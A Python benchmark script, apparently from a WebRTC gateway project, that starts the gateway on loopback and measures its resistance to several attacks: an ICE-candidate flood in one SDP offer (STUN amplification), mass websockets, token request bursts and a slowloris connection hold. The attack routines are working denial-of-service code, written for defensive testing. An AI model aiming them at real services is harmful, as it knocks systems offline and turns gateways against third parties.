"""The attacks of issue 11 (items 2 and 4) against a running gateway, with their figures.

Starts `python -m gateway` with its embedded defaults (two workers unless --workers says
otherwise) in a temporary working directory, then, from one address (127.0.0.1):

- `sdp`: one `call:start` whose 64 KB offer carries 1,054 `a=candidate` lines pointing at
  a UDP sink (distinct 127.x.y.z addresses, one port): the STUN packets and bytes the
  gateway sends there within `--window` seconds;
- `sdp64`: the same with 64 candidates, the most a call may have (with
  `--env GATEWAY_ICE_DENIED_CANDIDATE_NETWORKS=[]` the sink's addresses are allowed, so
  this measures the cap on connectivity checks);
- `sockets`: 1,000 engine.io websockets opened at once: how many the gateway accepts;
- `tokens`: 200 `POST /api/token` in a row: how many are granted;
- `slowloris`: 3,000 connections sending a request head one line every 5 s: how many are
  still open after 20 s.

Run inside the loopback-only namespace, on a machine with nothing else on ports 8080,
5070, 5080:

    scripts/in-loopback-netns .venv/bin/python bench/edge_attacks.py [--only sdp,sockets]
        [--env GATEWAY_<SECTION>_<KEY>=value ...]

Prints one JSON object of figures.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import aiohttp
import socketio
from aiortc import RTCPeerConnection
from aiortc.mediastreams import AudioStreamTrack

ROOT = Path(__file__).resolve().parents[1]
URL = "http://127.0.0.1:8080"
ORIGIN = URL
SINK_PORT = 40999
CANDIDATES = 1054


def start_gateway(
    workdir: Path, workers: int | None, extra_env: dict[str, str]
) -> subprocess.Popen:
    command = [sys.executable, "-m", "gateway"]
    if workers is not None:
        command += ["--workers", str(workers)]
    env = {**os.environ, "PYTHONPATH": str(ROOT), "GATEWAY_LOG_LEVEL": "warning", **extra_env}
    process = subprocess.Popen(
        command, cwd=workdir, env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    )
    assert process.stdout is not None
    for line in process.stdout:
        if b"Gateway ready" in line:
            return process
    raise SystemExit("the gateway did not start")


async def token(session: aiohttp.ClientSession) -> tuple[int, str | None]:
    async with session.post(
        f"{URL}/api/token", json={"site": "demo"}, headers={"Origin": ORIGIN}
    ) as response:
        body = await response.json(content_type=None)
        return response.status, (body or {}).get("token")


def flood_offer(sdp: str, count: int) -> str:
    lines = [
        f"a=candidate:{i} 1 udp {2122260223 - i} 127.{1 + i // 250}.{i % 250 + 1}.1 "
        f"{SINK_PORT} typ host"
        for i in range(count)
    ]
    sdp = "".join(line for line in sdp.splitlines(True) if not line.startswith("a=candidate:"))
    head, _, tail = sdp.partition("a=mid:")
    body = "\r\n".join(lines) + "\r\n"
    offer = f"{head}{body}a=mid:{tail}"
    assert len(offer.encode()) <= 64 * 1024, len(offer.encode())
    return offer


class Sink(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.packets = 0
        self.bytes = 0

    def datagram_received(self, data: bytes, addr: tuple) -> None:
        self.packets += 1
        self.bytes += len(data)


async def sdp_attack(window: float, count: int) -> dict:
    loop = asyncio.get_running_loop()
    transport, sink = await loop.create_datagram_endpoint(Sink, local_addr=("0.0.0.0", SINK_PORT))
    pc = RTCPeerConnection()
    pc.addTrack(AudioStreamTrack())
    await pc.setLocalDescription(await pc.createOffer())
    offer = flood_offer(pc.localDescription.sdp, count)
    async with aiohttp.ClientSession() as session:
        _, call_token = await token(session)
    client = socketio.AsyncClient(reconnection=False)
    await client.connect(
        URL,
        transports=["websocket"],
        auth={"site": "demo", "token": call_token},
        headers={"Origin": ORIGIN},
    )
    ack = await client.call("call:start", {"sdp": offer}, timeout=30)
    await asyncio.sleep(window)
    with contextlib.suppress(Exception):
        await client.call("call:hangup", {}, timeout=5)
    await client.disconnect()
    await pc.close()
    transport.close()
    return {
        "offer_bytes": len(offer.encode()),
        "candidates": count,
        "accepted": bool(ack.get("ok")),
        "refusal": (ack.get("error") or {}).get("code"),
        "window_s": window,
        "stun_packets": sink.packets,
        "stun_bytes": sink.bytes,
    }


async def sockets_attack(count: int = 1000) -> dict:
    started = time.perf_counter()
    session = aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0))
    url = f"{URL}/socket.io/?EIO=4&transport=websocket"

    async def one() -> aiohttp.ClientWebSocketResponse | None:
        try:
            return await session.ws_connect(
                url, headers={"Origin": ORIGIN}, timeout=aiohttp.ClientWSTimeout(ws_close=10)
            )
        except (TimeoutError, aiohttp.ClientError, OSError):
            return None

    sockets = await asyncio.gather(*(one() for _ in range(count)))
    elapsed = time.perf_counter() - started
    accepted = [s for s in sockets if s is not None]
    await asyncio.sleep(2)
    still_open = sum(1 for s in accepted if not s.closed)
    for s in accepted:
        await s.close()
    await session.close()
    return {
        "opened": count,
        "accepted": len(accepted),
        "open_after_2s": still_open,
        "seconds": round(elapsed, 2),
    }


async def tokens_attack(count: int = 200) -> dict:
    statuses: dict[int, int] = {}
    async with aiohttp.ClientSession() as session:
        for _ in range(count):
            status, _ = await token(session)
            statuses[status] = statuses.get(status, 0) + 1
    return {"requests": count, "granted": statuses.get(200, 0), "statuses": statuses}


async def slowloris_attack(count: int = 3000, hold: float = 20.0) -> dict:
    writers: list[asyncio.StreamWriter] = []
    readers: list[asyncio.StreamReader] = []
    refused = 0
    for _ in range(count):
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", 8080)
        except OSError:
            refused += 1
            continue
        writer.write(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        readers.append(reader)
        writers.append(writer)
    deadline = time.monotonic() + hold
    closed = [False] * len(writers)

    async def watch(i: int) -> None:
        with contextlib.suppress(Exception):
            await readers[i].read()  # returns at EOF (closed by the gateway)
        closed[i] = True

    watchers = [asyncio.create_task(watch(i)) for i in range(len(writers))]
    n = 0
    held_at: dict[str, int] = {}
    while time.monotonic() < deadline:
        await asyncio.sleep(min(5.0, max(0.0, deadline - time.monotonic())))
        n += 1
        held_at[f"{round(hold - (deadline - time.monotonic()))}s"] = closed.count(False)
        for i, writer in enumerate(writers):
            if not closed[i]:
                with contextlib.suppress(Exception):
                    writer.write(f"X-Slow-{n}: 1\r\n".encode())
    held = sum(1 for c in closed if not c)
    for w in watchers:
        w.cancel()
    for writer in writers:
        writer.close()
    return {
        "opened": count,
        "refused_at_connect": refused,
        "held_after_s": hold,
        "held": held,
        "held_at": held_at,
    }


async def run(only: set[str], window: float) -> dict:
    results: dict[str, dict] = {}
    if "sdp" in only:
        results["sdp"] = await sdp_attack(window, CANDIDATES)
    if "sdp64" in only:
        results["sdp64"] = await sdp_attack(window, 64)
    if "sockets" in only:
        results["sockets"] = await sockets_attack()
    if "tokens" in only:
        results["tokens"] = await tokens_attack()
    if "slowloris" in only:
        results["slowloris"] = await slowloris_attack()
    return results


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", default="sdp,sockets,tokens,slowloris")
    parser.add_argument("--window", type=float, default=30.0, help="seconds counted at the sink")
    parser.add_argument("--workers", type=int, default=None)
    parser.add_argument("--env", action="append", default=[], help="NAME=value for the gateway")
    args = parser.parse_args()
    extra_env = dict(item.split("=", 1) for item in args.env)
    with tempfile.TemporaryDirectory() as workdir:
        gateway = start_gateway(Path(workdir), args.workers, extra_env)
        try:
            results = asyncio.run(run(set(args.only.split(",")), args.window))
        finally:
            gateway.terminate()
            gateway.wait(timeout=30)
    print(json.dumps(results, indent=2))


if __name__ == "__main__":
    main()
